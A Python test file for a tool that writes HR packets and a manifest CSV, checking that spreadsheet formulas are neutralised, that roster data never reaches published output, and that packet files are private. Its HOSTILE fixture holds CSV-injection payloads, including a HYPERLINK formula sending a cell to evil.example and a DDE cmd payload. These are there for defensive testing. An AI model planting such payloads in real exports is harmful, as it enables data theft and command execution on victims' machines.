"""Personal data stays private, and the CSV the tool writes cannot carry a spreadsheet formula.

`ladderbuild packets` writes manifest.csv beside the packets (employee_id, name, level, manager,
packet, file) for HR's mail merge. Roster values are whatever HR's export holds, so a name such
as `=HYPERLINK(…)` must reach the spreadsheet as text: OWASP's rule puts a `'` before any cell
that starts with = + - @, a tab or a carriage return.
"""

from __future__ import annotations

import csv
import os
import shutil
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner

from ladderbuild.cli import main
from ladderbuild.csvsafe import FORMULA_TRIGGERS, safe_cell, write_csv

HOSTILE = [  # (employee_id, name, manager) as HR's export might hold them
    ("E1", '=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "=cmd|' /C calc'!A0"),
    ("E2", "+1+1", "@SUM(1+1)"),
    ("-E3", "-2+3", "Dr. Chen"),
    ("E4", "\uff1d1+1", "Maria Lopez"),  # a full-width equals sign, which some spreadsheets also evaluate
    ("E5", "Nguyen, Thi \"Minh\"", "Zoë O'Brien"),
]


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_a_cell_starting_with_a_formula_trigger_gets_a_quote(trigger):
    assert safe_cell(trigger + "SUM(A1:A9)") == "'" + trigger + "SUM(A1:A9)"


@pytest.mark.parametrize("value", ["Ana Silva", "O'Brien", "2024-03-18", "a=b", "E-1", "", "Zoë", 42, None])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == ("" if value is None else str(value))


def test_write_csv_quotes_every_cell_and_reads_back(tmp_path):
    path = write_csv(tmp_path / "x.csv", ["a", "b"], [["=1+1", 'say "hi", then\nleave']])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # so Excel reads it as UTF-8
    assert raw.decode("utf-8-sig").splitlines()[0] == '"a","b"'
    with open(path, encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle)) == [["a", "b"], ["'=1+1", 'say "hi", then\nleave']]
    assert not (tmp_path / "x.csv.part").exists()


def test_packets_write_a_formula_safe_manifest(minimal_project, tmp_path):
    roster = tmp_path / "roster.csv"
    with open(roster, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["employee_id", "name", "level", "manager"])
        writer.writerows([(i, name, "assistant-1", manager) for i, name, manager in HOSTILE])
    out = tmp_path / "packets"
    result = CliRunner().invoke(main, ["packets", str(minimal_project), "--roster", str(roster), "-o", str(out),
                                       "-j", "1"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert "manifest.csv lists who gets which file" in result.output
    with open(out / "manifest.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["employee_id", "name", "level", "manager", "packet", "file", "target_level", "note"]
    assert len(rows) == 1 + len(HOSTILE)
    for (employee_id, name, manager), row in zip(HOSTILE, rows[1:]):
        assert row[:4] == [safe_cell(employee_id), safe_cell(name), "assistant-1", safe_cell(manager)]
        assert row[4] == "annual-review" and (out / row[5]).is_file()
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert rows[1][1] == "'" + HOSTILE[0][1] and rows[2][3] == "'@SUM(1+1)" and rows[5][1] == HOSTILE[4][1]


def test_roster_data_never_reaches_the_handbook(minimal_project, tmp_path):
    """A roster left in the project, even inside content/ or content/assets/, is never published."""
    project = tmp_path / "project"
    shutil.copytree(minimal_project, project)
    roster_text = "employee_id,name,level,manager\nE9001,Privata Persona,assistant-1,Secreta Manager\n"
    for place in ("roster.csv", "content/roster.csv", "content/assets/roster.csv"):
        (project / place).parent.mkdir(parents=True, exist_ok=True)
        (project / place).write_text(roster_text)
    runner = CliRunner()
    built = runner.invoke(main, ["build", str(project), "--no-pdf"], catch_exceptions=False)
    assert built.exit_code == 0, built.output
    published = [p for p in (project / "output").rglob("*") if p.is_file()]
    assert published
    for path in published:
        data = path.read_bytes()
        assert b"Privata" not in data and b"E9001" not in data and b"Secreta" not in data, path
    # Packets are refused inside output/, also when the folder given is a link into it.
    (project / "output/inner").mkdir()
    (tmp_path / "sneaky").symlink_to(project / "output/inner")
    refused = runner.invoke(main, ["packets", str(project), "--roster", str(project / "roster.csv"),
                                   "-o", str(tmp_path / "sneaky")], catch_exceptions=False)
    assert refused.exit_code == 2 and "personal data" in refused.output
    assert list((project / "output/inner").iterdir()) == []


def test_packets_and_their_folders_are_for_their_owner_only(minimal_project, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("employee_id,name,level,manager\nE1,Ana Silva,assistant-2,Dr. Chen\n", encoding="utf-8")
    out = tmp_path / "private" / "packets"
    before = os.umask(0o022)  # a usual default: files world-readable
    try:
        result = CliRunner().invoke(main, ["packets", str(minimal_project), "--roster", str(roster), "-o", str(out),
                                           "-j", "1"], catch_exceptions=False)
    finally:
        os.umask(before)
    assert result.exit_code == 0, result.output
    written = [out.parent, out, *out.rglob("*")]
    assert {p.relative_to(tmp_path).as_posix() for p in written if p.is_file()} == {
        "private/packets/manifest.csv", "private/packets/annual-review/E1.pdf",
        "private/packets/.ladderbuild"}  # the marker that lets the next `packets` replace the folder
    for path in written:
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, f"{path} is readable by others"
    assert os.umask(0o022) == 0o022  # the command put the process's umask back
